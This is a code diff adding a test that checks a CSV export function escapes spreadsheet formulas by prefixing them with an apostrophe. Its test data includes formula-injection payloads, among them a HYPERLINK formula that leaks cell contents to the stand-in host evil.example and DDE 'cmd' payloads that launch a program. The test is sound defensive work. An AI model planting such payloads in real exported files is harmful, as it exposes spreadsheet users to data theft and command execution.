@@ -145,3 +145,38 @@ def test_exports_hold_every_published_row(warehouse, settings, tmp_path, what):
     assert text.splitlines()[0].startswith("period;")
     frame = pl.read_csv(tmp_path / "out.csv", separator=";", decimal_comma=True)
     assert frame.height == expected
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text():
+    from kpi.serving import excel_csv
+
+    frame = pl.DataFrame(
+        {
+            "file_name": [
+                '=HYPERLINK("http://evil.example/?"&A1;"klik")',
+                "+cmd|' /C calc'!A0",
+                "-2+3+cmd|' /C calc'!A0",
+                "@SUM(A1:A9)",
+                "\t=1+1",
+                "\r=1+1",
+                "kwaliteit-2025.xlsx",
+                "-3,5",
+            ],
+            "value": [-1.5, -0.25, 3.0, -7.0, 0.0, 1.0, 2.0, 4.0],
+        }
+    )
+    text = excel_csv(frame).decode("utf-8-sig")
+    rows = pl.read_csv(text.encode(), separator=";", decimal_comma=True)
+    assert rows["file_name"].to_list() == [
+        '\'=HYPERLINK("http://evil.example/?"&A1;"klik")',
+        "'+cmd|' /C calc'!A0",
+        "'-2+3+cmd|' /C calc'!A0",
+        "'@SUM(A1:A9)",
+        "'\t=1+1",
+        "'\r=1+1",
+        "kwaliteit-2025.xlsx",
+        "-3,5",  # a plain signed number is no formula
+    ]
+    # negative numbers in numeric columns stay numbers
+    assert rows["value"].to_list() == [-1.5, -0.25, 3.0, -7.0, 0.0, 1.0, 2.0, 4.0]
+    assert "\n-1,5" not in text and ";-1,5" in text
